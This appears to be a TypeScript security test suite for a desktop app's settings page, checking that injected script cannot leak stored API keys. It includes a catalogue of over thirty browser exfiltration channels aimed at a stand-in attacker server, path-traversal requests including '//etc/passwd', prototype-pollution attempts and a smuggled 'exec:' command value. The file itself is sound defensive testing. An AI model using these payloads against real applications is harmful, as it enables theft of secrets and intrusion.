/**
 * T21: what somebody could do who runs code of their own in the settings page. The page is made to try it
 * all; a server of theirs counts what reaches it, and everything the page is told is searched for keys.
 */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { operationNames } from '../../src-proxy/management/contract.ts';
import { findCanary } from '../support/canary-forms.ts';
import type { Desktop } from '../support/desktop/desktop.ts';
import { launchSharedDesktop } from '../support/desktop/launch-desktop.ts';
import { RUNNING, trayOf } from '../support/desktop/tray-of.ts';

const CANARY = 'sk-proj-CANARYcanary0123456789CANARYcanary';

let desktop: Desktop;
let page: Page;
let virtualKey = '';

beforeAll(async () => {
  desktop = await launchSharedDesktop();
  await trayOf(desktop).until(RUNNING);
  page = await desktop.page('ui');
  await page.getByRole('heading').first().waitFor();
  await desktop.client.call('connections.add', {
    provider: 'openai',
    label: 'work',
    provider_key: CANARY,
    base_url: 'http://127.0.0.1:9/v1',
    validate_before_save: false,
  });
  ({ key: virtualKey } = await desktop.client.call('virtual_keys.create', { label: 'tool' }));
});

/** A server of the attacker's, and what reached it. */
async function openCollector(): Promise<{ origin: string; reached: readonly string[] }> {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('window.isTaken = true');
  }).listen(0, '127.0.0.1');
  server.on('upgrade', (request, socket) => {
    reached.push(request.url ?? '');
    socket.destroy();
  });
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return { origin: `http://127.0.0.1:${port}`, reached };
}

/** Every way out of a page, each once, to `${to}/<way>`. */
const waysOut = (to: string): string => `(async () => {
  const to = ${JSON.stringify(to)};
  const add = (tag, members) => {
    const element = Object.assign(document.createElement(tag), members);
    document.body.append(element);
    return element;
  };
  const tries = [
    () => fetch(to + '/fetch', { mode: 'no-cors' }),
    () => { const call = new XMLHttpRequest(); call.open('POST', to + '/xhr'); call.send('x'); },
    () => navigator.sendBeacon(to + '/beacon', 'x'),
    () => new WebSocket(to.replace('http', 'ws') + '/socket'),
    () => new EventSource(to + '/events'),
    () => new Worker(to + '/worker'),
    () => new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '/blob-worker")']))),
    () => import(to + '/import'),
    () => add('img', { src: to + '/img' }),
    () => add('script', { src: to + '/script' }),
    () => add('link', { rel: 'stylesheet', href: to + '/css' }),
    () => add('link', { rel: 'prefetch', href: to + '/prefetch' }),
    () => add('link', { rel: 'manifest', href: to + '/manifest' }),
    () => add('iframe', { src: to + '/frame' }),
    () => add('iframe', { srcdoc: '<img src="' + to + '/srcdoc">' }),
    () => add('object', { data: to + '/object' }),
    () => add('embed', { src: to + '/embed' }),
    () => add('video', { src: to + '/video' }),
    () => add('audio', { src: to + '/audio' }),
    () => add('meta', { httpEquiv: 'refresh', content: '0; url=' + to + '/refresh' }),
    () => add('form', { action: to + '/form', method: 'post' }).submit(),
    () => add('a', { href: '#/connections', ping: to + '/ping' }).click(),
    () => add('a', { href: to + '/link' }).click(),
    () => add('a', { href: to + '/download', download: 'x' }).click(),
    () => add('div', {}).style.setProperty('background', 'url(' + to + '/background)'),
    () => new FontFace('x', 'url(' + to + '/font)').load(),
    () => window.open(to + '/window'),
    () => window.open('javascript:fetch("' + to + '/script-window")'),
    () => { window.location.href = to + '/location'; },
    () => { window.location.href = 'data:text/html,<script>fetch("' + to + '/data")</script>'; },
    () => eval('fetch("' + to + '/eval")'),
  ];
  for (const attempt of tries) {
    try { await Promise.race([attempt(), new Promise((done) => setTimeout(done, 150))]); } catch {}
  }
  return tries.length;
})()`;

describe('code of a stranger in the page', () => {
  test('gets nothing out to a server, by none of the ways there are', async () => {
    const { origin, reached } = await openCollector();
    const address = page.url().split('#')[0];
    expect(await page.evaluate(waysOut(origin))).toBeGreaterThan(30);
    // What was held back until now would come before this.
    await fetch(`${origin}/from-outside`);
    expect(reached).toEqual(['/from-outside']);
    expect(page.url().split('#')[0]).toBe(address);
    expect(await page.evaluate('window.isTaken')).toBeUndefined();
    expect(await desktop.remote.windows()).toHaveLength(1);
    expect(await desktop.remote.openedLinks()).toEqual([]);
  });

  test('reads no file but those of the page, and none of the approval page', async () => {
    const { origin } = new URL(page.url());
    const paths = [
      '/../package.json',
      '/..%2f..%2fpackage.json',
      '/%2e%2e/%2e%2e/package.json',
      '//etc/passwd',
      '/assets/../../main.js',
      '/shell/settings.json',
      '/constructor',
      '/__proto__',
    ];
    const statuses = await page.evaluate(
      `Promise.all(${JSON.stringify(paths)}.map((path) => fetch(path).then(({ status }) => status, () => 0)))`,
    );
    expect(statuses).toEqual(paths.map(() => expect.toBeOneOf([0, 404])));
    const other = origin.replace('://ui', '://approval');
    const read = `fetch(${JSON.stringify(`${other}/`)}).then(() => 'read', () => 'refused')`;
    expect(await page.evaluate(read)).toBe('refused');
  });

  test('cannot put another bridge in the place of the one there is', async () => {
    const attack = `{
      try { window.latchport = { shell: () => 'taken' }; } catch {}
      try { window.latchport.shell = () => 'taken'; } catch {}
      try { Object.defineProperty(window, 'latchport', { value: {} }); } catch {}
      Object.prototype.from = 'approval';
      Object.prototype.isSocketOnly = false;
    }`;
    await page.evaluate(attack);
    const answer = await page.evaluate(`window.latchport.shell('settings.read', {})`);
    await page.evaluate(`{ delete Object.prototype.from; delete Object.prototype.isSocketOnly; }`);
    expect(answer).toMatchObject({ isOk: true, output: { platform: process.platform } });
  });

  const ends = new Set(['stop', 'lock', 'connections.disconnect', 'virtual_keys.regenerate']);
  const harmless = operationNames.filter((name) => !ends.has(name) && !/delete/.test(name));

  test('is told no key by any operation, nor by what it listens to', async () => {
    const { connections } = await desktop.client.call('connections.list', {});
    const { virtual_keys: keys } = await desktop.client.call('virtual_keys.list', {});
    const inputs = [
      {},
      { connection: connections[0]?.id },
      { virtual_key: keys[0]?.id },
      { workspace: 'personal' },
      { provider: 'openai', limit: 100 },
    ];
    const told = await page.evaluate(`(async () => {
      const told = [];
      const end = window.latchport.subscribe((message) => told.push(message), () => {}, 0);
      let answered = 0;
      for (const name of ${JSON.stringify(harmless)}) {
        for (const input of ${JSON.stringify(inputs)}) {
          const answer = await window.latchport.management(name, input);
          if (answer.isOk) answered += 1;
          told.push(answer);
        }
      }
      end();
      return { answered, text: JSON.stringify(told) };
    })()`);
    const { answered, text } = readTold(told);
    expect(answered).toBeGreaterThan(20);
    expect(text).toContain('sk-proj');
    expect([...findCanary(CANARY, text), ...findCanary(virtualKey, text)]).toEqual([]);
  });

  test.each([
    [
      'run a program',
      'connections.add',
      { provider: 'openai', label: 'x', key_reference: 'exec:touch /tmp/taken' },
    ],
    ['send a stored key elsewhere', 'connections.update', { connection: 'work', base_url: 'URL' }],
  ])('cannot %s without the user, whom the system asks', async (_what, name, wanted) => {
    const { origin, reached } = await openCollector();
    const before = await desktop.client.call('connections.list', {});
    const input = JSON.stringify(wanted).replace('URL', `${origin}/v1`);
    const call = `window.latchport.management(${JSON.stringify(name)}, ${input})`;
    const asking = page.evaluate(call);
    await expect.poll(() => desktop.remote.messageBox()).not.toBeNull();
    // More of the same meanwhile is refused at once, and opens no second box.
    expect(await page.evaluate(call)).toMatchObject({ error: { code: 'call_not_confirmed' } });
    await desktop.remote.answerMessageBox('Cancel');
    expect(await asking).toMatchObject({ isOk: false, error: { code: 'call_not_confirmed' } });
    expect(await desktop.client.call('connections.list', {})).toEqual(before);
    expect(reached).toEqual([]);
  });

  test('can do what the user allows', async () => {
    const call = `window.latchport.management('connections.update', { connection: 'work', base_url: 'http://127.0.0.1:10/v1' })`;
    const asking = page.evaluate(call);
    await expect.poll(() => desktop.remote.messageBox()).not.toBeNull();
    expect(await desktop.remote.messageBox()).toMatchObject({
      message: 'Send the key of work to another address?',
      buttons: ['Cancel', 'Send it there'],
    });
    await desktop.remote.answerMessageBox('Send it there');
    expect(await asking).toMatchObject({
      isOk: true,
      output: { base_url: 'http://127.0.0.1:10/v1' },
    });
  });
});

function readTold(told: unknown): { readonly answered: number; readonly text: string } {
  const { answered, text } = Object(told);
  return { answered: Number(answered), text: String(text) };
}
